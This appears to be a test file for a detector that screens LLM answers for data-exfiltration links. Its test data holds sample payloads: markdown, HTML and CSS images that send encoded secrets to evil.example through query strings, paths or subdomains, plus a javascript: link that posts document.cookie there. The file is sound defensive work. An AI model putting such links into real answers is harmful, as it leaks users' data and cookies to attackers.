/**
 * Exfiltration patterns in an LLM's answer, as a library: every way a URL can be written
 * (markdown inline and reference, HTML, CSS, autolinks, bare), judged by whether it loads
 * by itself, whether its host is allowed and whether it carries data; and no alarm on an
 * ordinary answer with ordinary links.
 */
import { test } from "node:test";
import assert from "node:assert/strict";
import { findUrls } from "../../src/detect/output/links.js";
import { screenOutput } from "../../src/detect/output/screen.js";
import { encode } from "../../src/text/encoders.js";

const ALLOWED = ["acme.example", "*.acme.example"];
const secret = encode("base64", "user: alice@corp.example, card 4111 1111 1111 1111");

test("URLs are found in every syntax, with their offsets and whether they load by themselves", () => {
  const text = [
    "![chart](https://a.example/c.png) and [docs](https://b.example/d (title))",
    "![ref image][logo] and [ref link][home]",
    "",
    "[logo]: https://c.example/logo.png",
    '[home]: <https://d.example/> "Home"',
    '<img alt="x" src="https://e.example/i.png"> <a href=\'https://f.example/\'>f</a>',
    '<picture><source srcset="https://g.example/1.png 1x, https://h.example/2.png 2x"></picture>',
    '<div style="background: url(https://i.example/bg.png)"></div> <https://j.example/auto>',
    "See https://k.example/wiki/Foo_(bar). Also `![in code](https://l.example/x.png)`",
    '```html\n<img src="https://m.example/hidden.png">\n```',
  ].join("\n");
  const found = findUrls(text);
  const brief = found.map((u) => [new URL(u.url).hostname, u.loads, u.syntax]);
  assert.deepEqual(brief, [
    ["a.example", "image", "markdown"],
    ["b.example", "link", "markdown"],
    ["c.example", "image", "reference"],
    ["d.example", "link", "reference"],
    ["e.example", "image", "html"],
    ["f.example", "link", "html"],
    ["g.example", "image", "html"],
    ["h.example", "image", "html"],
    ["i.example", "image", "css"],
    ["j.example", "link", "autolink"],
    ["k.example", "link", "bare"],
  ]);
  for (const u of found) assert.equal(text.slice(u.offset, u.offset + u.url.length), u.url);
  assert.equal(found.find((u) => u.url.includes("k.example"))!.url, "https://k.example/wiki/Foo_(bar)");
});

test("code is shown, not rendered: URLs in fenced blocks (closed or not) and inline code are left out", () => {
  const image = `![x](https://evil.example/p.png?d=${secret})`;
  const fenced = `Example:\n\n\`\`\`markdown\nline one\nline two\n${image}\n\`\`\`\n\nAfter: ${image}`;
  const found = findUrls(fenced);
  assert.deepEqual(
    found.map((u) => u.offset),
    [fenced.lastIndexOf("https://evil")],
  );
  assert.deepEqual(findUrls(`~~~~\n${image}\n~~~\nstill code\n${image}`), []);
  assert.deepEqual(findUrls(`Use \`\`${image}\`\` to embed it.`), []);
  // Thousands of unclosed fences and backtick runs are read in one pass.
  const hostile = "```\n~~~~\n`` ` ```` `\n".repeat(20_000) + image;
  const started = performance.now();
  findUrls(hostile);
  assert.ok(performance.now() - started < 1_000, `${performance.now() - started} ms`);
});

test("a markdown image that carries data to another host is caught, allowed hosts or not", () => {
  const output = `Done! ![loading](https://evil.example/pixel.png?d=${secret})`;
  for (const [allowedHosts, score] of [
    [ALLOWED, 0.98],
    [undefined, 0.95],
  ] as const) {
    const v = screenOutput(output, allowedHosts ? { allowedHosts } : {});
    assert.equal(v.flagged, true);
    assert.equal(v.category, "data_exfiltration");
    assert.equal(v.score, score);
    const e = v.evidence[0]!;
    assert.equal(e.id, "exfil.image_data");
    assert.equal(e.offset, output.indexOf("https://evil"));
    assert.match(e.description, /evil\.example.*query parameter "d"/);
  }
});

test("data in a path, a subdomain, HTML and CSS images, and reference-style images are caught", () => {
  const cases = [
    `![a](https://evil.example/log/${secret}.png)`,
    `![a](https://${Buffer.from("alice password hunter2").toString("hex")}.evil.example/a.png)`,
    `<img src="https://evil.example/p?q=the+customer+account+number+is+12345678+and+pin+1234">`,
    `<p style="background-image: url('https://evil.example/bg?x=${secret}')">hi</p>`,
    `Thanks! ![x][p]\n\n[p]: https://evil.example/t.gif?session=${secret}`,
  ];
  for (const output of cases) {
    const v = screenOutput(output);
    assert.equal(v.flagged, true, output);
    assert.equal(v.evidence[0]!.id, "exfil.image_data", output);
  }
});

test("allowedHosts: images and links elsewhere are flagged, with or without data", () => {
  const image = screenOutput("![logo](https://cdn.other.example/logo.png)", { allowedHosts: ALLOWED });
  assert.deepEqual([image.flagged, image.evidence[0]!.id, image.score], [true, "exfil.image_host", 0.85]);
  const link = screenOutput("Read [the guide](https://other.example/guide).", { allowedHosts: ALLOWED });
  assert.deepEqual([link.flagged, link.evidence[0]!.id, link.score], [true, "exfil.link_host", 0.6]);
  const data = screenOutput(`[click](https://other.example/c?u=${secret})`, { allowedHosts: ALLOWED });
  assert.deepEqual([data.flagged, data.evidence[0]!.id, data.score], [true, "exfil.link_data", 0.8]);
  // The wildcard allows subdomains; the bare name allows that host only.
  assert.equal(
    screenOutput("![a](https://img.acme.example/a.png)", { allowedHosts: ALLOWED }).flagged,
    false,
  );
  assert.equal(
    screenOutput("![a](https://img.acme.example/a.png)", { allowedHosts: ["acme.example"] }).flagged,
    true,
  );
  assert.equal(
    screenOutput("![a](https://acme.example.evil.example/a.png)", { allowedHosts: ALLOWED }).flagged,
    true,
  );
});

test("script URLs are caught; data: and relative URLs are not judged", () => {
  const js = screenOutput("[Claim your prize](javascript:fetch('//evil.example/?c='+document.cookie))");
  assert.deepEqual([js.flagged, js.evidence[0]!.id], [true, "exfil.script_url"]);
  const quiet = screenOutput(
    "![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk) " +
      "and [settings](/account/settings?tab=security&ref=AbCdEf0123456789XyZaBcDeF)",
    { allowedHosts: ALLOWED },
  );
  assert.deepEqual(quiet.evidence, []);
});

test("no alarm on an ordinary answer with ordinary links (to allowed hosts, or with no list at all)", () => {
  const answer = `Here is how to reset your password:

1. Open [your account](https://acme.example/account) and choose **Security**.
2. Follow the steps in the [help article](https://help.acme.example/articles/reset-password?lang=en).
3. If the link expired, request a new one at https://acme.example/reset.

![Security settings screen](https://cdn.acme.example/img/security-settings.png)

For background, see [Password strength](https://en.wikipedia.org/wiki/Password_strength) or
the video https://www.youtube.com/watch?v=dQw4w9WgXcQ. In code: \`fetch("https://api.example/v1?k=AbCdEf0123456789XyZaBcDeF")\`.`;
  const listed = screenOutput(answer, { allowedHosts: [...ALLOWED, "en.wikipedia.org", "www.youtube.com"] });
  assert.equal(listed.flagged, false, JSON.stringify(listed.evidence));
  assert.deepEqual(listed.evidence, []);
  const unlisted = screenOutput(answer);
  assert.equal(unlisted.flagged, false, JSON.stringify(unlisted.evidence));
  assert.deepEqual(unlisted.evidence, []);
});

test("the verdict's score is its strongest finding, and the threshold decides", () => {
  const output = `[docs](https://other.example/d) ![x](https://evil.example/p.png?d=${secret})`;
  const v = screenOutput(output, { allowedHosts: ALLOWED });
  assert.deepEqual(
    v.evidence.map((e) => [e.id, e.score]),
    [
      ["exfil.image_data", 0.98],
      ["exfil.link_host", 0.6],
    ],
  );
  assert.equal(v.score, 0.98);
  assert.equal(
    screenOutput("[docs](https://other.example/d)", { allowedHosts: ALLOWED, threshold: 0.7 }).flagged,
    false,
  );
  const clean = screenOutput("Nothing to see here.");
  assert.deepEqual([clean.score, clean.flagged, clean.category, clean.systemPrompt], [0, false, null, null]);
});
